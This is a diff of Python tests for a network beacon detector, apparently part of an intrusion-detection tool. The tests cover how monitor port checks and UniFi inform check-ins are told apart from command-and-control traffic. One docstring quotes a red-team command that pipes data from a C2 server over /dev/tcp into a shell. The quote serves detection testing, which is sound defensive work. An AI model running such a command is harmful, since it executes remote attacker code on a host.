@@ -150,45 +150,65 @@ def test_inbound_periodic_clients_are_not_beacons() -> None:
     assert rec.by("beacon") == []
 
 
-def test_a_monitors_port_check_is_no_call_and_a_check_in_is() -> None:
+def test_a_monitors_port_check_is_no_call_and_a_silent_c2_client_still_is() -> None:
     """Found by a hunt (2026-12-07): Uptime Kuma's "TCP port" monitor on the NAS checks the owner's
     VPS's ssh every 60 s by address: it connects, takes the banner and closes without a byte
     ("SAF_SPAF": the server pushed data, the client none). That was a critical beacon and blocked
-    the VPS. A connection in which the client said nothing calls on no service; the same timing
-    where the client speaks ("SPAF_SPAF", a check-in) is a beacon, blocked."""
-    def checks(state: str) -> list[Flow]:
-        return [flow(T0 + i * 60.0, "192.168.1.20", "203.0.113.77", 22, dur=0.05, sbytes=180, dbytes=240,
+    the VPS. A silent client's connection to a server that sent a speak-first banner (ssh here) is
+    a port check now. Found by a red team the same day: skipping every silent client let a cron job
+    that pipes a C&C's push into a shell (`cat </dev/tcp/C2/8443 | sh`, the client never writes)
+    go unseen: without a banner from that server, a silent client's connections still count."""
+    from slipsq.flow import AppEvent
+
+    vps = "203.0.113.77"
+
+    def checks(state: str, port: int = 22) -> list[Flow]:
+        return [flow(T0 + i * 60.0, "192.168.1.20", vps, port, dur=0.05, sbytes=180, dbytes=240,
                      state=state, sport=40000 + i) for i in range(40)]
 
-    rec, _ = run([Beacon], checks("SAF_SPAF"))
+    banner = AppEvent(T0 - 1, "banner", vps, 22, "192.168.1.20", 40000, "tcp",
+                      {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"})
+    rec, _ = run([Beacon], checks("SAF_SPAF"), [banner])
     assert rec.by("beacon") == [] and rec.blocked_ips == []
-    rec, _ = run([Beacon], checks("SPAF_SPAF"))
-    assert rec.blocked_ips == ["203.0.113.77"]
-    rec, _ = run([Beacon], checks("SF"))  # a state that does not say who spoke: counted, as before
-    assert rec.blocked_ips == ["203.0.113.77"]
+    rec, _ = run([Beacon], checks("SAF_SPAF"))  # no banner seen from it: a push to a silent client
+    assert rec.blocked_ips == [vps]
+    rec, _ = run([Beacon], checks("SAF_SPAF", 8443), [banner])  # the banner was another port's
+    assert rec.blocked_ips == [vps]
+    rec, _ = run([Beacon], checks("SPAF_SPAF"), [banner])  # the client speaks: a check-in
+    assert rec.blocked_ips == [vps]
+    client_said = AppEvent(T0 - 1, "banner", "192.168.1.20", 40000, vps, 22, "tcp",
+                           {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"})
+    rec, _ = run([Beacon], checks("SAF_SPAF"), [client_said])  # a client's banner names no server
+    assert rec.blocked_ips == [vps]
 
 
 def test_a_unifi_devices_inform_counts_half_and_other_requests_do_not() -> None:
     """Found by a hunt (2026-12-07): UniFi devices POST /inform to their controller every 10 s; with
-    the controller on a VPS by address (8080), it was blocked as a beacon within two minutes. Such a
-    check-in counts half (blocks only with another finding); the same tuple without that request,
-    or with another path, is a beacon as before."""
+    the controller on a VPS by address (8080), it was blocked as a beacon within two minutes. Such
+    check-ins count half (a block only with another finding) when at least half the tuple's
+    connections were one, on 8080. A red team's decoy, one inform and then a TLS beacon on the same
+    tuple, and the same requests on another port or path or from another agent, are beacons."""
     from slipsq.flow import AppEvent
 
     dev, ctrl = "192.168.1.2", "203.0.113.30"
-    flows = beacon(dev, ctrl, 8080, 10.0, 120)
 
-    def request(uri: str, agent: str = "AirControl Agent v1.0") -> AppEvent:
-        return AppEvent(T0 - 1, "http", dev, 40000, ctrl, 8080, "tcp",
-                        {"method": "POST", "uri": uri, "host": f"{ctrl}:8080", "user_agent": agent})
+    def informs(port: int = 8080, uri: str = "/inform", agent: str = "AirControl Agent v1.0",
+                every: int = 1) -> tuple[list[Flow], list[AppEvent]]:
+        flows = beacon(dev, ctrl, port, 10.0, 120)
+        said = [AppEvent(f.start, "http", dev, f.sport, ctrl, port, "tcp",
+                         {"method": "POST", "uri": uri, "host": f"{ctrl}:{port}", "user_agent": agent})
+                for f in flows[::every]]
+        return flows, said
 
-    rec, _ = run([Beacon], flows, [request("/inform")])
+    rec, _ = run([Beacon], *informs())
     found = rec.by("beacon")
     assert found and rec.blocked_ips == [] and all(a.evidence.confidence <= 0.45 for a in found)
     assert "device-management check-in (UniFi inform" in found[-1].evidence.description
-    for events in ([], [request("/api/v1/poll")], [request("/inform", "curl/8.5")]):
-        rec, _ = run([Beacon], flows, events)
-        assert rec.blocked_ips == [ctrl], events
+    for case in (informs(every=1000), informs(port=8443), informs(uri="/api/v1/poll"), informs(agent="curl/8.5")):
+        rec, _ = run([Beacon], *case)
+        assert rec.blocked_ips == [ctrl], case[1][:1]
+    rec, _ = run([Beacon], beacon(dev, ctrl, 8080, 10.0, 120))  # no request seen at all
+    assert rec.blocked_ips == [ctrl]
 
 
 def test_beacon_capture_end_to_end() -> None:
